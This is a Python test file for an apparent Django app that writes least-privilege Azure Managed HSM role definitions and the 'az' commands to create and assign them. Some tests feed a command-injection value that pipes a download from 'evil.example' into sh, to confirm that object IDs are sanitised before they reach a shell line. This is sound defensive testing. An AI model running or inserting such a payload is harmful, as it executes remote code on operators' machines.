"""The role that repairs missing rights: exactly what a source needs, in lines that ``az`` takes as is."""

import json
import re
import shlex
from pathlib import Path
from typing import Any

import jwt
import pytest
from django.conf import settings

from cryptosources.models import CryptoSource
from cryptosources.providers.api import Right
from cryptosources.providers.azure import health
from cryptosources.providers.azure import rights as azure
from cryptosources.services.rights import FULL_CYCLE, ROLE_FILE, needed_rights, rights_report
from tests.cryptosources.factories import azure_settings, make_source
from tests.cryptosources.finished import OBJECT_ID, finish_test

FIRST_SOURCE = Path(settings.BASE_DIR) / "docs" / "first-source.md"


def role_in_the_docs() -> dict[str, Any]:
    blocks = re.findall(r"```json\n(.*?)```", FIRST_SOURCE.read_text(), re.DOTALL)
    (role,) = [json.loads(block) for block in blocks if "dataActions" in block]
    return dict(role)


def test_the_docs_show_the_role_that_the_console_writes() -> None:
    shown = role_in_the_docs()
    written = azure.role_definition(needed_rights(CryptoSource(backup_restore=True)), name=shown["roleName"])
    written["dataActions"], shown["dataActions"] = (
        sorted(written["dataActions"]),
        sorted(shown["dataActions"]),
    )
    assert {name: written[name] for name in shown} == shown


def test_every_right_has_its_data_action_its_label_and_its_purpose() -> None:
    for table in (azure.DATA_ACTIONS, azure.LABELS, azure.WHAT_FOR):
        assert table.keys() == set(Right)


@pytest.mark.parametrize(("backup_restore", "purge"), [(False, False), (True, True)])
def test_a_role_holds_what_the_source_needs_and_no_more(backup_restore: bool, purge: bool) -> None:
    needed = needed_rights(CryptoSource(backup_restore=backup_restore))
    actions = azure.role_definition(needed, name="x")["dataActions"]
    assert len(actions) == len(set(actions)) == len(needed) + 2
    assert ("Microsoft.KeyVault/managedHsm/keys/deletedKeys/delete" in actions) is purge
    assert not any("roleAssignments/write" in action or "*" in action for action in actions)


def test_the_full_cycle_needs_its_own_rights_too() -> None:
    plain = CryptoSource(backup_restore=False)
    assert needed_rights(plain, full_cycle=True) == needed_rights(plain) | FULL_CYCLE


def test_another_set_of_rights_has_another_name() -> None:
    names = {azure.role_name({right}) for right in Right}
    assert len(names) == len(Right)
    assert azure.role_name([Right.SIGN, Right.READ]) == azure.role_name([Right.READ, Right.SIGN])


def test_the_lines_are_what_az_takes() -> None:
    define = shlex.split(azure.define_command(hsm_name="contoso", file_name=ROLE_FILE))
    assert define[:5] == ["az", "keyvault", "role", "definition", "create"]
    assert define[5:] == ["--hsm-name", "contoso", "--role-definition", "@key-manager-role.json"]
    name = azure.role_name(Right)
    assign = shlex.split(azure.assign_command(hsm_name="contoso", role=name, object_id="2222-3333"))
    assert assign[:5] == ["az", "keyvault", "role", "assignment", "create"]
    options = dict(zip(assign[5::2], assign[6::2], strict=True))
    assert options == {
        "--hsm-name": "contoso",
        "--role": name,
        "--assignee-object-id": "2222-3333",
        "--assignee-principal-type": "ServicePrincipal",
        "--scope": "/",
    }


def test_an_unknown_object_id_is_a_place_to_fill_in() -> None:
    line = azure.assign_command(hsm_name="contoso", role="x", object_id="")
    assert f"--assignee-object-id {azure.OBJECT_ID_UNKNOWN} " in line
    looked_up = shlex.split(azure.object_id_command("1111-2222"))
    assert looked_up == ["az", "ad", "sp", "show", "--id", "1111-2222", "--query", "id", "--output", "tsv"]


@pytest.mark.parametrize("told", ["x; curl https://evil.example | sh #", "2222", "", "None"])
def test_what_is_no_object_id_does_not_reach_a_shell_line(told: str) -> None:
    """An access token's claims are somebody else's text until they prove to be what they are called."""
    token = jwt.encode({"oid": told}, "k" * 32, algorithm="HS256")
    assert health.object_id_in(token) == ""
    assert azure.object_id_or_nothing(told) == ""


def test_an_object_id_is_written_in_one_way() -> None:
    token = jwt.encode({"oid": OBJECT_ID.upper()}, "k" * 32, algorithm="HS256")
    assert health.object_id_in(token) == OBJECT_ID


@pytest.mark.parametrize(
    ("told", "words"),
    [
        ("Nov 23 21:37:26 2027 GMT", "23 Nov 2027"),
        ("Nov  3 01:02:03 2027 GMT", "3 Nov 2027"),
        (None, "an unknown date"),
    ],
)
def test_the_end_of_a_certificate_is_a_day(told: str | None, words: str) -> None:
    assert health._day(told) == words


def test_a_token_that_is_none_names_nobody() -> None:
    assert health.object_id_in("opaque") == ""


@pytest.mark.django_db
@pytest.mark.usefixtures("licensed")
def test_a_stored_object_id_is_looked_at_before_it_is_shown() -> None:
    source = make_source(azure_settings())
    finish_test(source, azure.DATA_ACTIONS[Right.SIGN], object_id="x; curl https://evil.example | sh #")
    repair = rights_report(source=source, test=source.tests.get()).repair
    assert repair is not None
    assert f"--assignee-object-id {azure.OBJECT_ID_UNKNOWN} " in repair.assign_line
    assert repair.object_id_line


@pytest.mark.django_db
@pytest.mark.usefixtures("licensed")
@pytest.mark.parametrize("told", [1, 3])
def test_a_test_that_broke_off_names_what_it_does_not_know(told: int) -> None:
    """An account without any role is refused the first right, and nothing more is asked."""
    source = make_source(azure_settings())
    finish_test(source, azure.DATA_ACTIONS[Right.READ])
    test = source.tests.get()
    rights = [step for step in test.steps if step["name"].startswith("right:")]
    rights.sort(key=lambda step: step["outcome"] != "failed")
    test.steps = [*(step for step in test.steps if step not in rights), *rights[:told]]
    report = rights_report(source=source, test=test)
    left = len(needed_rights(source)) - told
    assert report.missing_lead == "Read keys is missing."
    assert report.missing_rest == f"The other {left} are not known yet. The role below gives all of them."
    assert report.missing[0].found_out == (
        "The HSM refused a harmless try. The account's roles were not read."
    )
    assert report.repair is not None
    assert report.repair.built_in_roles == (azure.OFFICER, azure.USER)


@pytest.mark.django_db
@pytest.mark.usefixtures("licensed")
@pytest.mark.parametrize("outcome", ["passed", "warning"])
def test_no_role_gives_it_is_said_where_the_roles_were_read(outcome: str) -> None:
    source = make_source(azure_settings())
    finish_test(source, azure.DATA_ACTIONS[Right.SIGN])
    test = source.tests.get()
    test.steps.insert(1, {**test.steps[0], "name": "roles", "outcome": outcome})
    report = rights_report(source=source, test=test)
    (missing,) = report.missing
    assert missing.found_out.startswith("No role of the account gives it") is (outcome == "passed")
    assert (report.missing_lead, report.missing_rest) == ("One right is missing:", "sign.")
    assert report.repair is not None
    assert report.repair.built_in_roles == (azure.USER,)


@pytest.mark.parametrize(
    ("right", "role"),
    [(Right.SIGN, azure.USER), (Right.UPDATE, azure.USER), (Right.PURGE, azure.OFFICER)],
)
def test_the_least_built_in_role_is_named(right: Right, role: str) -> None:
    assert azure.built_in_role(azure.full_action(right)) == role
    assert role in azure.how_to_grant(azure.full_action(right), "1111")
